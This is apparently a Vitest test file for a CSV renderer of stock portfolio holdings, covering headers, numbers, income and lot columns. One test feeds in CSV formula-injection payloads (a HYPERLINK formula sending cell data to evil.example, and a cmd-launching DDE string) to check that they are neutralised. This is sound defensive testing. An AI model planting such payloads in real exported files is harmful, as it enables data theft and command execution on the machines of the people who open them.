import { describe, it, expect } from 'vitest';
import { renderHoldingsCsv } from '../../../src/render/csv.js';
import { makeReport } from './fixture.js';

/** A small independent RFC 4180 parser for the round trip. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('renderHoldingsCsv', () => {
  const csv = renderHoldingsCsv(makeReport());
  const lines = csv.split('\r\n');

  it('writes one header row and one CRLF-terminated row per holding', () => {
    expect(lines[0]).toBe(
      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency',
    );
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
    expect(csv).not.toMatch(/[^\r]\n/);
  });

  it('writes raw numbers, negative numbers bare and nulls empty', () => {
    expect(lines[1]).toBe(
      'AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live,USD,1874.4',
    );
    expect(lines[2]).toBe(
      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,0.7747,5000,1498.91,0.2998,-0.0149,cache,USD,511725',
    );
    expect(lines[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale,USD,15.18518394');
  });

  it('neutralises formula injection and escape sequences in names', () => {
    const report = makeReport();
    report.holdings[0]!.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    report.holdings[1]!.name = "@SUM(1+1)*cmd|' /C calc'!A0";
    report.holdings[2]!.name = '\x1b[31m-2+3\x1b[0m, "quoted"\nnext';
    const rows = parseCsv(renderHoldingsCsv(report));
    expect(rows.every((r) => r.length === 15)).toBe(true);
    expect(rows[1]![1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(rows[2]![1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[3]![1]).toBe('\'-2+3, "quoted" next');
    const raw = renderHoldingsCsv(report);
    expect(raw).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
    expect(raw).not.toMatch(/\x1b/);
  });

  it('writes NaN and Infinity as empty fields, never as text', () => {
    const report = makeReport();
    report.holdings[0]!.weight = NaN;
    report.holdings[0]!.vsBenchmark = Infinity;
    const row = parseCsv(renderHoldingsCsv(report))[1]!;
    expect(row[7]).toBe('');
    expect(row[11]).toBe('');
  });

  const BASE_HEADER =
    'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency';

  /** AAPL with 3.20 of Yahoo-estimated dividends, as buildReport gives a buy-only file. */
  function estimatedIncomeOnly(): ReturnType<typeof makeReport> {
    const report = makeReport();
    report.holdings[0]!.income = 3.2;
    report.holdings[0]!.incomeEstimated = true;
    report.holdings[1]!.income = 0;
    report.holdings[1]!.incomeEstimated = false;
    report.realized = [
      {
        symbol: 'AAPL',
        name: 'Apple Inc.',
        currency: 'USD',
        proceeds: 0,
        costBasis: 0,
        gain: 0,
        income: 3.2,
        incomeEstimated: true,
        sales: [],
        dividends: [{ date: '2026-08-11', line: null, amount: 3.2, estimated: true }],
        byYear: [{ year: 2026, proceeds: 0, costBasis: 0, gain: 0, income: 3.2 }],
      },
    ];
    report.summary.realizedGain = 0;
    report.summary.income = 3.2;
    return report;
  }

  it('keeps the header of a buy-only file, estimated dividends or not', () => {
    expect(renderHoldingsCsv(estimatedIncomeOnly()).split('\r\n')[0]).toBe(BASE_HEADER);
    expect(renderHoldingsCsv(makeReport({ realized: [], closedPositions: [] })).split('\r\n')[0]).toBe(
      BASE_HEADER,
    );
  });

  it.each([
    ['a sale', { date: '2026-03-02', line: 6 }, []],
    ['a dividend row', null, [{ date: '2026-05-15', line: 7, amount: 1.5, estimated: false }]],
  ] as const)('adds income columns when the file has %s; closed positions get no row', (_, sale, divs) => {
    const report = estimatedIncomeOnly();
    report.realized!.push({
      symbol: 'MSFT',
      name: 'Microsoft Corporation',
      currency: 'USD',
      proceeds: 300,
      costBasis: 250,
      gain: 50,
      income: divs.length > 0 ? 1.5 : 0,
      incomeEstimated: false,
      sales:
        sale === null
          ? []
          : [
              {
                ...sale,
                shares: 1,
                price: 300,
                currency: 'USD',
                fee: 0,
                proceeds: 300,
                costBasis: 250,
                gain: 50,
              },
            ],
      dividends: [...divs],
      byYear: [],
    });
    report.closedPositions = [
      {
        symbol: 'MSFT',
        name: 'Microsoft Corporation',
        firstBought: '2025-01-02',
        closedOn: '2026-03-02',
        realizedGain: 50,
        income: 0,
        incomeEstimated: false,
      },
    ];
    const out = renderHoldingsCsv(report).split('\r\n');
    expect(out[0]).toBe(`${BASE_HEADER},income,incomeEstimated`);
    expect(out[1]).toBe(
      'AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live,USD,1874.4,3.2,true',
    );
    expect(out[2]!.endsWith(',-0.0149,cache,USD,511725,0,false')).toBe(true);
    // No income field on the row: both cells empty.
    expect(out[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale,USD,15.18518394,,');
    expect(out).toHaveLength(5);
    expect(out.join('\n')).not.toContain('MSFT');
  });

  it('writes only the header for no holdings', () => {
    expect(renderHoldingsCsv(makeReport({ holdings: [] })).split('\r\n')).toHaveLength(2);
  });
});

describe('renderHoldingsCsv with lots', () => {
  const rows = renderHoldingsCsv(makeReport(), { lots: true }).split('\r\n');

  it('writes one row per lot, the lot columns last', () => {
    expect(rows[0]).toBe(
      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency,line,date,account,costPerShare,costCurrency',
    );
    // AAPL's two lots, VWRL.L's one, XYZ's one; then the final CRLF.
    expect(rows).toHaveLength(6);
    expect(rows.slice(1, 5).map((r) => r.split(',')[0])).toEqual(['AAPL', 'AAPL', 'VWRL.L', 'XYZ']);
  });

  it("carries each lot's own shares, value, cost and gains, and its value in the instrument's currency", () => {
    // 8 shares x 187.44 USD = 1,499.52 USD (base USD, so the same as the value in base).
    expect(rows[1]).toBe(
      'AAPL,Apple Inc.,USD,8,187.44,0.0123,1499.52,,600,899.52,1.4992,,live,USD,1499.52,2,2020-01-15,IRA,75,USD',
    );
    expect(rows[2]).toBe(
      'AAPL,Apple Inc.,USD,2,187.44,0.0123,374.88,,900,-525.12,-0.5835,,live,USD,374.88,3,2024-03-01,,450,USD',
    );
    // 50 shares x 10,234.5 pence = 511,725 pence, beside 6,498.91 in the base currency (USD).
    expect(rows[3]).toBe(
      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,,5000,1498.91,0.2998,,cache,USD,511725,4,2022-06-01,ISA,7874,GBp',
    );
    expect(rows[4]).toMatch(/^XYZ,.*,1234\.5678,0\.0123,,15\.19,,,,,,stale,USD,15\.18518394,5,,,,USD$/);
  });
});
